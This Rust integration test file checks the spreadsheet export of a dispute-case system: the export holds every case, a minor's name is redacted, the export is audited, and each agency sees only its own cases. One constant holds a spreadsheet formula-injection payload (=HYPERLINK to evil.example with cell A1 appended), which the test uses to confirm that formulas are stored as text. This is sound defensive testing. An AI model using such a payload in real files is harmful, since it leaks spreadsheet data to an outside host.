//! Issue 13 §5: the case list as .xlsx — the list's own filters and scope, every case and not one
//! page, a formula typed into a case kept as text, a minor's case redacted, and the export audited.

use std::io::Read;

use gongzhi_app::domain::time;
use gongzhi_test_support::{DEMO_PASSWORD, TestApp};
use serde_json::{Value, json};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
/// A child's identity number (born 2016).
const CHILD: &str = "620702201605010023";

fn case(village: &str, title: &str, parties: Value) -> Value {
    json!({"kind": "dispute", "channel": "visit", "category": "NEIGHBOUR", "place_id": village,
        "title": title, "narrative": "村民反映邻里纠纷，要求调解。",
        "received_at": time::format_local(chrono::Utc::now()), "parties": parties})
}

/// The first sheet's XML of a downloaded workbook.
fn sheet(bytes: &[u8]) -> String {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("an xlsx is a zip");
    for part in [
        "[Content_Types].xml",
        "xl/workbook.xml",
        "xl/styles.xml",
        "_rels/.rels",
    ] {
        assert!(zip.by_name(part).is_ok(), "{part}");
    }
    let mut xml = String::new();
    zip.by_name("xl/worksheets/sheet1.xml")
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    xml
}

async fn export(t: &TestApp, who: &str, query: &str) -> (u16, Vec<u8>) {
    let res = t
        .browser(who, DEMO_PASSWORD)
        .await
        .get(format!("{}/cases/export.xlsx?{query}", t.base))
        .send()
        .await
        .unwrap();
    let status = res.status().as_u16();
    (status, res.bytes().await.unwrap().to_vec())
}

#[tokio::test]
async fn the_case_list_exports_whole_with_formulas_as_text_and_minors_redacted() {
    let t = TestApp::spawn("export_cases").await;
    t.app.seed_demo_cases(&t.system_ctx(), 650).await.unwrap();
    let village = t.org_id("620702104201").await;
    let clerk = t.api("demo_reception").await;
    let (s, v) = clerk
        .post(
            "/api/v1/cases",
            case(
                &village,
                FORMULA,
                json!([{"role": "petitioner", "name": "@王五"}]),
            ),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let (s, v) = clerk
        .post(
            "/api/v1/cases",
            case(
                &village,
                "张小雨被同学欺凌",
                json!([{"role": "petitioner", "name": "张大山"},
                {"role": "other", "name": "张小雨", "id_number": CHILD}]),
            ),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let minor_number = v["number"].as_str().unwrap().to_owned();

    // Every case of the list, open and closed: more than one page, more than one batch of 500.
    let (s, bytes) = export(&t, "demo_chief", "state=all").await;
    assert_eq!(s, 200);
    let xml = sheet(&bytes);
    let total = t
        .rows("SELECT COUNT(*) FROM dispute_case WHERE merged_into IS NULL")
        .await[0][0]
        .parse::<usize>()
        .unwrap();
    assert!(total > 500, "{total}");
    assert_eq!(xml.matches("<row ").count(), total + 1, "a header and every case");
    assert!(
        !xml.contains("<f>") && !xml.contains("<f "),
        "no formula is ever written"
    );
    // The formula is the cell's text, escaped, marked to stay text.
    let escaped = FORMULA.replace('&', "&amp;").replace('"', "&quot;");
    let at = xml.find(&escaped).expect("the title as typed");
    let cell = &xml[xml[..at].rfind("<c ").unwrap()..at];
    assert!(
        cell.contains("t=\"inlineStr\"") && cell.contains("s=\"2\""),
        "{cell}"
    );
    // The minor's case is there, by number, without its title.
    assert!(xml.contains(&minor_number));
    assert!(
        !xml.contains("张小雨"),
        "a child's name never leaves in an export"
    );
    assert!(xml.contains("涉未成年人案件（已隐去）"));
    let audited = t
        .rows("SELECT COUNT(*) FROM audit_event WHERE action = 'case.export'")
        .await;
    assert_eq!(audited[0][0], "1");

    // The list's own links carry its conditions and only those: the next page, the export.
    let list = t
        .page_text("demo_chief", "/cases?q=&kind=&state=all&township=&same_party=")
        .await;
    for link in ["/cases?state=all&page=2", "/cases/export.xlsx?state=all\""] {
        assert!(list.contains(link), "{link}");
    }
    let next = t.page_text("demo_chief", "/cases?state=all&page=2").await;
    assert!(next.contains("2 / "), "the second page opens");

    // The list's filters and the exporter's scope: the police see their own cases only.
    let (s, v) = t
        .api("demo_partner")
        .await
        .post(
            "/api/v1/cases",
            case(
                &village,
                "派出所调解的纠纷",
                json!([{"role": "petitioner", "name": "赵六"}]),
            ),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let (s, bytes) = export(&t, "demo_partner", "state=open").await;
    assert_eq!(s, 200);
    let xml = sheet(&bytes);
    assert!(xml.contains("派出所调解的纠纷"));
    assert!(
        !xml.contains("点我"),
        "another agency's case is not the police's to export"
    );
    let police = t.agency_id("GZ-GAJ").await;
    let expected = t
        .rows(&format!(
            "SELECT COUNT(*) FROM dispute_case c WHERE c.merged_into IS NULL AND c.status <> 'closed'
             AND (c.owner_agency_id = '{police}' OR c.id IN (SELECT case_id FROM referral WHERE to_agency_id = '{police}' AND state <> 'revoked'))"
        ))
        .await[0][0]
        .parse::<usize>()
        .unwrap();
    assert_eq!(xml.matches("<row ").count(), expected + 1);
}

#[tokio::test]
async fn an_export_is_refused_to_whoever_may_not_list_cases() {
    let t = TestApp::spawn("export_refused").await;
    let res = t
        .client()
        .get(format!("{}/cases/export.xlsx", t.base))
        .send()
        .await
        .unwrap();
    assert!(matches!(res.status().as_u16(), 303 | 401), "{}", res.status());
    let (s, _) = export(&t, "demo_hearing", "").await;
    assert_eq!(s, 403, "the hearing pool manager lists no cases");
    // A condition not understood: the plain list is exported, never a failure.
    let (s, bytes) = export(&t, "demo_chief", "risk=purple&from=yesterday").await;
    assert_eq!(s, 200);
    assert!(sheet(&bytes).contains("<row r=\"1\">"));
}
